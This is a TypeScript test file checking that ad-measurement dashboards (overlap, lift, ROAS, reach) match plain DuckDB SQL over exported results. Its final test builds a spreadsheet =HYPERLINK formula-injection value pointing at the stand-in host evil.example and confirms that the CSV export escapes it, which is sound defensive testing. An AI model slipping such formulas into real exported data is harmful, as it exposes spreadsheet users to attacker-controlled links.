/**
 * The ready-made dashboards over real results of every analysis they read (the demo's
 * insights half: every library analysis run in `media-insights` as `brand`). Every
 * visual runs through `visualData` (what POST /v1/dashboards/{ref}/visuals/{visual}/data
 * answers) and its figures equal the same aggregation done independently: the receiver's
 * plaintext result files (`exportResult`) read with plain DuckDB, the visual's question
 * asked again in plain SQL or JS. Then the campaign filter, new results followed without
 * re-creating the dashboards, and the CSV of a visual with formula-like text.
 */
import { DuckDBInstance, type DuckDBConnection } from '@duckdb/node-api';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INSIGHTS_COLLABORATION, runInsightsDemo, type InsightRun } from '../src/cli/demo/demo-insights.ts';
import { runInsight } from '../src/collaboration/insights.ts';
import { createMember } from '../src/collaboration/members.ts';
import type { QueryOutcome } from '../src/collaboration/run-query.ts';
import { exportResult, listResults } from '../src/collaboration/results.ts';
import { Workspace } from '../src/collaboration/workspace.ts';
import type { CellValue } from '../src/engine/engine.ts';
import { visualCsv, visualData, type VisualData } from '../src/results-sql/dashboards/dashboard-data.ts';
import type { FilterValue, Visual } from '../src/results-sql/dashboards/dashboard-spec.ts';
import { openDashboard, saveDashboard } from '../src/results-sql/dashboards/dashboard-store.ts';
import { readyMadeDashboards, type ReadyMadeOutcome } from '../src/results-sql/dashboards/ready-made.ts';
import { generateMediaData } from '../src/synthetic/generate.ts';

/** Impressions over both platforms: enough that per-creative and other-currency rows pass the platforms' minimum of 100 people. */
const SCALE = 1_000_000;
/** The two-sided 95% normal quantile, typed here rather than imported. */
const Z95 = 1.959963984540054;
const ANALYSES = ['audience-overlap', 'audience-profile', 'reach-frequency', 'attribution', 'conversion-lift', 'roas', 'frequency-to-conversion'] as const;
type Analysis = (typeof ANALYSES)[number];

type Row = Record<string, unknown>;

/** Equal figures: numbers (DECIMAL strings included) to 1e-9 relative, everything else exactly. */
function expectSame(actual: unknown, expected: unknown, where: string): void {
  if (typeof expected === 'number') {
    const a = Number(actual);
    expect(actual, where).not.toBeNull();
    expect(Math.abs(a - expected), `${where}: ${String(actual)} vs ${expected}`).toBeLessThanOrEqual(1e-9 * Math.max(1, Math.abs(expected)));
  } else {
    expect(actual ?? null, where).toEqual(expected ?? null);
  }
}

function expectRows(actual: readonly Row[], expected: readonly Row[], where: string): void {
  expect(actual.length, `${where}: rows`).toBe(expected.length);
  expected.forEach((e, i) => {
    for (const [k, v] of Object.entries(e)) expectSame(actual[i]?.[k], v, `${where}[${i}].${k}`);
  });
}

/** Rows in a stable order by the given columns (for comparing where the visual's sort has ties). */
function ordered(rows: readonly Row[], keys: readonly string[]): Row[] {
  const text = (r: Row): string => keys.map((k) => String(r[k])).join('\u0000');
  return [...rows].sort((a, b) => (text(a) < text(b) ? -1 : text(a) > text(b) ? 1 : 0));
}

function expectSorted(rows: readonly Row[], column: string, direction: 'asc' | 'desc', where: string): void {
  const values = rows.map((r) => r[column]).filter((v) => v !== null).map(Number);
  const sorted = [...values].sort((a, b) => (direction === 'asc' ? a - b : b - a));
  expect(values, `${where}: sorted by ${column} ${direction}`).toEqual(sorted);
}

const records = (data: VisualData): Row[] => data.rows.map((r) => Object.fromEntries(data.columns.map((c, i) => [c.name, r[i] ?? null])));

/** The Wald lift of two arms, written out from the definitions (not the library's statistics). */
function lift(testUsers: number, testConverters: number, controlUsers: number, controlConverters: number): Row {
  const p1 = testConverters / testUsers;
  const p2 = controlConverters / controlUsers;
  const se = Math.sqrt((p1 * (1 - p1)) / testUsers + (p2 * (1 - p2)) / controlUsers);
  return {
    test_rate: p1,
    control_rate: p2,
    absolute_lift: p1 - p2,
    relative_lift: (p1 - p2) / p2,
    ci95_low: p1 - p2 - Z95 * se,
    ci95_high: p1 - p2 + Z95 * se,
    incremental_converters: (p1 - p2) * testUsers,
  };
}

function resultIdOf(outcome: QueryOutcome, what: string): string {
  if (outcome.status !== 'succeeded' || outcome.delivery === undefined) throw new Error(`${what} did not deliver: ${JSON.stringify(outcome)}`);
  return outcome.delivery.resultId;
}

describe('ready-made dashboards over real results of every analysis', () => {
  const dir = mkdtempSync(join(tmpdir(), 'cr-ready-made-'));
  let ws: Workspace;
  let runs: InsightRun[];
  let made: ReadyMadeOutcome[];
  let duck: DuckDBInstance;
  let plainDb: DuckDBConnection;

  /** Exports the receiver's plaintext copy of a result and makes it the plain view `name`. */
  const expose = async (name: string, resultId: string): Promise<void> => {
    const info = (await listResults(ws, 'brand')).find((r) => r.id === resultId);
    if (info === undefined) throw new Error(`no result ${resultId}`);
    const file = join(dir, 'plain', `${resultId}.${info.format}`);
    await exportResult(ws, 'brand', resultId, file);
    const read = info.format === 'csv' ? `read_csv('${file}', header = true)` : `read_parquet('${file}')`;
    await plainDb.run(`CREATE OR REPLACE VIEW "${name}" AS SELECT * FROM ${read}`);
  };

  /** Plain DuckDB rows, numbers as numbers (BIGINT and DECIMAL come as text otherwise). */
  const plain = async (sql: string): Promise<Row[]> => {
    const reader = await plainDb.runAndReadAll(sql);
    const numeric = reader.columnTypes().map((t) => /^(TINYINT|SMALLINT|INTEGER|BIGINT|HUGEINT|FLOAT|DOUBLE|DECIMAL)/.test(t.toString()));
    const names = reader.columnNames();
    return reader.getRowsJson().map((row) => Object.fromEntries(row.map((v, i) => [names[i] ?? '', v === null ? null : numeric[i] ? Number(v) : v])));
  };

  /** A visual's rows as the API computes them, from the dashboard as stored. */
  const visual = async (dashboard: string, id: string, filters?: Readonly<Record<string, readonly FilterValue[]>>): Promise<VisualData> => {
    const stored = await openDashboard(ws, 'brand', dashboard);
    return visualData(ws, 'brand', stored.spec, id, filters);
  };

  const runOf = (analysis: Analysis): InsightRun => {
    const run = runs.find((r) => r.analysis === analysis);
    if (run === undefined) throw new Error(`the demo did not run ${analysis}`);
    return run;
  };

  beforeAll(async () => {
    const data = join(dir, 'data');
    await generateMediaData({ outDir: data, seed: 7, scale: SCALE, platforms: 2, threads: 1, memoryLimit: '1GB' });
    ws = await Workspace.open(join(dir, 'home'), { threads: 1, memoryLimit: '1GB' });
    // runDemo's first half creates these two; the insights half adds platform2.
    for (const member of ['brand', 'platform']) await createMember(ws.db, member);
    runs = await runInsightsDemo(ws, data);
    made = await readyMadeDashboards(ws, 'brand');
    mkdirSync(join(dir, 'plain'));
    duck = await DuckDBInstance.create(':memory:', { threads: '1' });
    plainDb = await duck.connect();
    for (const analysis of ANALYSES) await expose(analysis, resultIdOf(runOf(analysis).outcome, analysis));
  }, 180_000);

  afterAll(async () => {
    plainDb?.closeSync();
    duck?.closeSync();
    await ws?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('creates both dashboards with nothing missing; every visual runs and has its field columns', async () => {
    expect(made.map((m) => [m.dashboard.name, m.missing])).toEqual([['audience-planning', []], ['campaign-measurement', []]]);
    const read = new Set(made.flatMap((m) => m.dashboard.spec.visuals.map((v) => (v.source.kind === 'latest-of-analysis' ? v.source.analysis : v.source.kind))));
    expect([...read].sort()).toEqual([...ANALYSES].sort());
    for (const m of made) {
      // No two visuals share a cell of the grid.
      const cells = new Map<string, string>();
      for (const v of m.dashboard.spec.visuals) {
        for (let x = v.layout.x; x < v.layout.x + v.layout.w; x++) {
          for (let y = v.layout.y; y < v.layout.y + v.layout.h; y++) {
            expect(cells.get(`${x},${y}`), `${m.dashboard.name}: ${v.id} overlaps at ${x},${y}`).toBeUndefined();
            cells.set(`${x},${y}`, v.id);
          }
        }
      }
      for (const v of m.dashboard.spec.visuals) {
        const where = `${m.dashboard.name}/${v.id}`;
        const data = await visual(m.dashboard.name, v.id);
        const names = data.columns.map((c) => c.name);
        const f = v.fields;
        const wanted = [f.x, ...(f.y ?? []), f.series, f.value, f.label, ...(f.sets ?? []), f.low, f.high, ...(f.columns ?? []), v.sort?.column].filter((c) => c !== undefined);
        for (const c of wanted) expect(names, `${where} has ${c}`).toContain(c);
        expect(data.rows.length, `${where} rows`).toBeGreaterThan(0);
        // Each visual reads the newest result of its own analysis, the one the demo made.
        const analysis = v.source.kind === 'latest-of-analysis' ? v.source.analysis : '';
        expect(data.sources.map((s) => s.analysis), where).toEqual([analysis]);
        // The y, value and interval columns hold numbers on every row they are set.
        for (const c of [...(f.y ?? []), f.value, f.low, f.high, ...(f.sets ?? [])].filter((x) => x !== undefined)) {
          for (const r of records(data)) if (r[c] !== null) expect(Number.isFinite(Number(r[c])), `${where}.${c} = ${String(r[c])}`).toBe(true);
        }
      }
    }
  });

  it('audience planning: overlap, match rates, profile index, reach and frequency equal plain SQL over the result files', async () => {
    // The overlap and its shares (also what the analysis itself reported to the runner).
    const overlap = records(await visual('audience-planning', 'overlap'));
    expectRows(ordered(overlap, ['segment']), await plain('SELECT segment, brand_customers, platform_audience, overlap FROM "audience-overlap" ORDER BY segment'), 'overlap');
    const table = records(await visual('audience-planning', 'overlap-table'));
    expectSorted(table, 'overlap', 'desc', 'overlap-table');
    const shares = await plain(`SELECT segment, overlap / brand_customers AS overlap_share_of_brand, overlap / platform_audience AS overlap_share_of_platform,
      overlap / (brand_customers + platform_audience - overlap) AS jaccard FROM "audience-overlap" ORDER BY segment`);
    expectRows(ordered(table, ['segment']), shares, 'overlap-table');
    const reported = runOf('audience-overlap').rows;
    if (reported === undefined) throw new Error('audience-overlap reported no rows');
    const fromRun = reported.rows.map((r) => Object.fromEntries(['segment', 'overlap_share_of_brand', 'overlap_share_of_platform', 'jaccard'].map((c) => [c, r[reported.columns.indexOf(c)] ?? null])));
    expectRows(ordered(table, ['segment']), ordered(fromRun, ['segment']), 'overlap-table vs the analysis');

    // The profile index: share of the overlap / share of the base × 100.
    const profile = records(await visual('audience-planning', 'profile-index'));
    expect(profile.length).toBeGreaterThan(1);
    expectSorted(profile, 'index', 'desc', 'profile-index');
    const index = await plain(`SELECT value, (overlap_people / overlap_total) / (base_people / base_total) * 100 AS "index",
      overlap_people / overlap_total AS share_of_overlap, base_people / base_total AS share_of_base FROM "audience-profile" ORDER BY value`);
    expectRows(ordered(profile, ['value']), index, 'profile-index');
    const profiled = runOf('audience-profile').rows;
    if (profiled === undefined) throw new Error('audience-profile reported no rows');
    const byValue = new Map(profiled.rows.map((r) => [r[profiled.columns.indexOf('value')], r[profiled.columns.indexOf('index')]]));
    for (const r of profile) expectSame(r['index'], Number(byValue.get(r['value'] as CellValue)), `profile-index ${String(r['value'])} vs the analysis`);

    // Reach and effective reach per campaign (one value repeated on each bucket row).
    const reach = records(await visual('audience-planning', 'reach'));
    expectSorted(reach, 'reach', 'desc', 'reach');
    const plainReach = await plain(`SELECT campaign_id, campaign_id AS reach_group, min(reach) AS reach, min(effective_reach) AS effective_reach
      FROM "reach-frequency" WHERE breakdown = 'all' GROUP BY campaign_id HAVING min(reach) = max(reach) ORDER BY campaign_id`);
    expect(plainReach.length).toBe((await plain('SELECT DISTINCT campaign_id FROM "reach-frequency"')).length);
    expectRows(ordered(reach, ['campaign_id']), plainReach, 'reach');

    // The frequency distribution: each bucket's users as a share of the campaign's reach, buckets in numeric order.
    const frequency = records(await visual('audience-planning', 'frequency'));
    const plainFrequency = await plain(`SELECT campaign_id AS reach_group, frequency_bucket, users, users / reach AS share_of_reach FROM "reach-frequency"
      ORDER BY CASE WHEN frequency_bucket = '10+' THEN 10 ELSE CAST(frequency_bucket AS INTEGER) END, campaign_id`);
    expectRows(frequency, plainFrequency, 'frequency');
    expect([...new Set(frequency.map((r) => r['frequency_bucket']))].slice(0, 3)).toEqual(['1', '2', '3']);
  });

  it('campaign measurement: attribution, lift and its interval, ROAS and frequency to conversion equal plain SQL over the result files', async () => {
    // Attributed conversions by campaign: the credited rows' conversions, over creatives and currencies.
    const attributed = records(await visual('campaign-measurement', 'attributed'));
    expectSorted(attributed, 'conversions', 'desc', 'attributed');
    const plainAttributed = await plain('SELECT campaign_id, sum(conversions) AS conversions FROM attribution WHERE attributed GROUP BY campaign_id ORDER BY campaign_id');
    expect(plainAttributed.length).toBeGreaterThan(1);
    expectRows(ordered(attributed, ['campaign_id']), plainAttributed, 'attributed');
    const table = records(await visual('campaign-measurement', 'attribution-table'));
    expectSorted(table, 'conversions', 'desc', 'attribution-table');
    const key = ['attributed', 'campaign_id', 'creative_id', 'currency'];
    expectRows(ordered(table, key), ordered(await plain('SELECT * FROM attribution'), key), 'attribution-table');

    // Lift per campaign from the released arm counts, and as the analysis itself reported it.
    const arms = await plain('SELECT * FROM "conversion-lift" ORDER BY campaign_id');
    expect(arms.length).toBeGreaterThan(1);
    const expectedLift = arms.map((a) => ({
      campaign_id: a['campaign_id'],
      test_users: a['test_users'],
      ...lift(Number(a['test_users']), Number(a['test_converters']), Number(a['control_users']), Number(a['control_converters'])),
    }));
    const byCampaign = records(await visual('campaign-measurement', 'lift-by-campaign'));
    expectSorted(byCampaign, 'absolute_lift', 'desc', 'lift-by-campaign');
    expectRows(ordered(byCampaign, ['campaign_id']), expectedLift, 'lift-by-campaign');
    const reported = runOf('conversion-lift').rows;
    if (reported === undefined) throw new Error('conversion-lift reported no rows');
    const col = (r: readonly CellValue[], c: string): CellValue => r[reported.columns.indexOf(c)] ?? null;
    const fromRun = reported.rows.map((r) => ({
      campaign_id: col(r, 'campaign_id'),
      ...Object.fromEntries(['test_rate', 'control_rate', 'absolute_lift', 'relative_lift', 'ci95_low', 'ci95_high'].map((c) => [c, Number(col(r, c))])),
      incremental_converters: Number(col(r, 'incremental_conversions')),
    }));
    expectRows(ordered(byCampaign, ['campaign_id']), ordered(fromRun, ['campaign_id']), 'lift-by-campaign vs the analysis');
    // The KPI is one tile: without a campaign chosen, the campaign with the largest test group.
    const kpi = await visual('campaign-measurement', 'lift');
    const largest = [...expectedLift].sort((a, b) => Number(b.test_users) - Number(a.test_users))[0];
    expect(kpi.rows).toHaveLength(1);
    expectRows(records(kpi), [largest ?? {}], 'lift KPI');

    // ROAS: the campaigns' main rows (currency = the parameter, USD by default), ROAS = revenue / spend.
    const roas = records(await visual('campaign-measurement', 'roas'));
    expectSorted(roas, 'roas', 'desc', 'roas');
    const main = await plain(`SELECT campaign_id, currency, spend, attributed_revenue, attributed_revenue / spend AS roas FROM roas WHERE currency = 'USD' ORDER BY campaign_id`);
    expectRows(ordered(roas, ['campaign_id']), main, 'roas');
    const roasTable = records(await visual('campaign-measurement', 'roas-table'));
    const all = await plain('SELECT * FROM roas');
    // Conversions in other currencies are rows of their own, without spend: the table keeps them.
    expect(all.some((r) => r['currency'] !== 'USD')).toBe(true);
    expectRows(ordered(roasTable, ['campaign_id', 'currency']), ordered(all, ['campaign_id', 'currency']), 'roas-table');

    // Conversion rate by frequency, in bucket order.
    const ftc = records(await visual('campaign-measurement', 'frequency-to-conversion'));
    expectRows(ftc, await plain('SELECT frequency_bucket, people, converters, converters / people AS conversion_rate FROM "frequency-to-conversion" ORDER BY frequency_min'), 'frequency-to-conversion');
    expect(ftc.map((r) => r['frequency_bucket'])).toEqual([...ftc.map((r) => r['frequency_bucket'])].sort((a, b) => (a === '10+' ? 10 : Number(a)) - (b === '10+' ? 10 : Number(b))));
  });

  it('the campaign filter narrows every visual with a campaign_id to that campaign and leaves the others', async () => {
    const campaigns = (await plain('SELECT DISTINCT campaign_id FROM "conversion-lift" ORDER BY campaign_id')).map((r) => String(r['campaign_id']));
    // Not the largest campaign, so that the KPI has to change.
    const chosen = campaigns[campaigns.length - 1] ?? '';
    expect(chosen).not.toBe('');
    for (const m of made) {
      for (const v of m.dashboard.spec.visuals) {
        const where = `${m.dashboard.name}/${v.id}`;
        const all = await visual(m.dashboard.name, v.id);
        const one = await visual(m.dashboard.name, v.id, { campaign: [chosen] });
        if (!all.columns.some((c) => c.name === 'campaign_id')) {
          // Audience overlap and profile, and frequency to conversion, are not per campaign.
          expect(one.filters, where).toEqual({});
          expect(one.rows, where).toEqual(all.rows);
          continue;
        }
        expect(one.filters, where).toEqual({ campaign: [chosen] });
        expect(one.rows.length, where).toBeGreaterThan(0);
        expect(records(one).every((r) => r['campaign_id'] === chosen), where).toBe(true);
        if (v.limit === undefined) {
          // The same rows as the unfiltered visual's of that campaign (order compared apart: the sort may tie).
          const names = all.columns.map((c) => c.name);
          expect(ordered(records(one), names), where).toEqual(ordered(records(all).filter((r) => r['campaign_id'] === chosen), names));
          if (v.sort !== undefined) expectSorted(records(one), v.sort.column, v.sort.direction, where);
        }
      }
    }
    // The figures of the chosen campaign, from the plain files.
    const [attributed] = await plain(`SELECT campaign_id, sum(conversions) AS conversions FROM attribution WHERE attributed AND campaign_id = '${chosen}' GROUP BY campaign_id`);
    expectRows(records(await visual('campaign-measurement', 'attributed', { campaign: [chosen] })), [attributed ?? {}], 'attributed, filtered');
    const [arms] = await plain(`SELECT * FROM "conversion-lift" WHERE campaign_id = '${chosen}'`);
    if (arms === undefined) throw new Error(`no arms of ${chosen}`);
    const kpi = records(await visual('campaign-measurement', 'lift', { campaign: [chosen] }));
    expectRows(kpi, [{ campaign_id: chosen, ...lift(Number(arms['test_users']), Number(arms['test_converters']), Number(arms['control_users']), Number(arms['control_converters'])) }], 'lift KPI, filtered');
    const [reach] = await plain(`SELECT max(reach) AS reach, max(effective_reach) AS effective_reach FROM "reach-frequency" WHERE campaign_id = '${chosen}'`);
    expectRows(records(await visual('audience-planning', 'reach', { campaign: [chosen] })), [reach ?? {}], 'reach, filtered');
    // Two campaigns: both, nothing else.
    const two = records(await visual('campaign-measurement', 'roas', { campaign: [chosen, campaigns[0] ?? ''] }));
    expect(two.map((r) => r['campaign_id']).sort()).toEqual([campaigns[0], chosen].sort());
  });

  it('follows new results of an analysis without being re-created', async () => {
    const before = await openDashboard(ws, 'brand', 'audience-planning');
    const attributedBefore = records(await visual('campaign-measurement', 'attributed'));

    // reach-frequency again, by creative: the reach visuals show each campaign's creatives.
    const byCreative = await runInsight(ws, 'reach-frequency', INSIGHTS_COLLABORATION, 'brand', { by: 'creative' });
    const creativeId = resultIdOf(byCreative.outcome, 'reach-frequency by creative');
    await expose('reach-frequency', creativeId);
    const reach = await visual('audience-planning', 'reach');
    expect(reach.sources.map((s) => s.analysis)).toEqual(['reach-frequency']);
    const plainReach = await plain(`SELECT campaign_id, breakdown, campaign_id || ' / ' || breakdown AS reach_group, max(reach) AS reach, max(effective_reach) AS effective_reach
      FROM "reach-frequency" GROUP BY campaign_id, breakdown ORDER BY campaign_id, breakdown`);
    expect(plainReach.every((r) => r['breakdown'] !== 'all')).toBe(true);
    expect(plainReach.length).toBeGreaterThan(5);
    expectRows(ordered(records(reach), ['campaign_id', 'breakdown']), plainReach, 'reach by creative');
    const frequency = records(await visual('audience-planning', 'frequency'));
    const plainFrequency = await plain(`SELECT campaign_id || ' / ' || breakdown AS reach_group, frequency_bucket, users / reach AS share_of_reach FROM "reach-frequency"
      ORDER BY CASE WHEN frequency_bucket = '10+' THEN 10 ELSE CAST(frequency_bucket AS INTEGER) END, campaign_id, breakdown`);
    expectRows(frequency, plainFrequency, 'frequency by creative');

    // attribution again with a one-day lookback: fewer conversions credited, the bar follows.
    const shortLookback = await runInsight(ws, 'attribution', INSIGHTS_COLLABORATION, 'brand', { lookback_days: '1' });
    await expose('attribution', resultIdOf(shortLookback.outcome, 'attribution with lookback_days=1'));
    const attributed = records(await visual('campaign-measurement', 'attributed'));
    expectRows(ordered(attributed, ['campaign_id']), await plain('SELECT campaign_id, sum(conversions) AS conversions FROM attribution WHERE attributed GROUP BY campaign_id ORDER BY campaign_id'), 'attributed, 1-day lookback');
    const total = (rows: readonly Row[]): number => rows.reduce((s, r) => s + Number(r['conversions']), 0);
    expect(total(attributed)).toBeLessThan(total(attributedBefore));

    // Nothing was re-created or changed.
    const after = await openDashboard(ws, 'brand', 'audience-planning');
    expect(after.updatedAt).toBe(before.updatedAt);
    expect(after.spec).toEqual(before.spec);
  });

  it("a visual's CSV quotes formula-like text with a leading ' and keeps numbers, negative DECIMALs included", async () => {
    const link: Visual = {
      id: 'links',
      kind: 'table',
      title: 'Links',
      layout: { x: 0, y: 0, w: 12, h: 4 },
      fields: {},
      sort: { column: 'campaign_id', direction: 'asc' },
      source: {
        kind: 'latest-of-analysis',
        analysis: 'roas',
        sql: `SELECT campaign_id, concat('=HYPERLINK("http://evil.example/', campaign_id, '","open")') AS link, -spend AS refund, -impressions AS negative_impressions FROM latest WHERE currency = 'USD'`,
      },
    };
    const saved = await saveDashboard(ws, 'brand', { name: 'csv-check', title: 'CSV check', filters: [], visuals: [link] });
    const data = await visualData(ws, 'brand', saved.spec, 'links');
    const csv = visualCsv(data);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/cmp-001"",""open"")"`);
    // Read back with a CSV reader: the text has the quote in front, the numbers are the plain file's.
    const file = join(dir, 'links.csv');
    writeFileSync(file, csv);
    const back = await plain(`SELECT * FROM read_csv('${file}', header = true, all_varchar = true) ORDER BY campaign_id`);
    const expected = await plain(`SELECT campaign_id, '''=HYPERLINK("http://evil.example/' || campaign_id || '","open")' AS link, CAST(-spend AS VARCHAR) AS refund
      FROM roas WHERE currency = 'USD' ORDER BY campaign_id`);
    expect(back.map((r) => [r['campaign_id'], r['link'], r['refund']])).toEqual(expected.map((r) => [r['campaign_id'], r['link'], r['refund']]));
    const impressions = await plain(`SELECT -impressions AS n FROM roas WHERE currency = 'USD' ORDER BY campaign_id`);
    expect(back.map((r) => Number(r['negative_impressions']))).toEqual(impressions.map((r) => r['n']));
    expect(back.every((r) => String(r['refund']).startsWith('-'))).toBe(true);
  });
});
